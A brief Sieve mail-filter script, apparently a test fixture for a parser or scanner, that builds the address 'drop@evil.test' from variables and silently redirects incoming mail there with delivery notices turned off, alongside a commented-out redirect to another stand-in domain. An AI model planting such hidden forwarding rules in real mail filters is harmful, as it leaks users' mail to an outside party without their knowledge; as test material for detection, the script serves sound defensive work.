require ["variables","foreverypart","mime","extracttext","ihave","duplicate","special-use","fcc","editheader"];
set "dom" "evil";
set "to" "drop@${dom}.test";
/* redirect "commented@evil.test"; */
if not anyof (not exists "From", size :over 0) { stop; }
foreverypart { if header :mime :type "Content-Type" "text" { break; } }
if ihave "redirect-dsn" { redirect :notify "never" :ret "HDRS" "${to}"; }
elsif header :matches "Subject" ["*a*", "b?"] { fileinto :specialuse "\\Junk" "x"; }
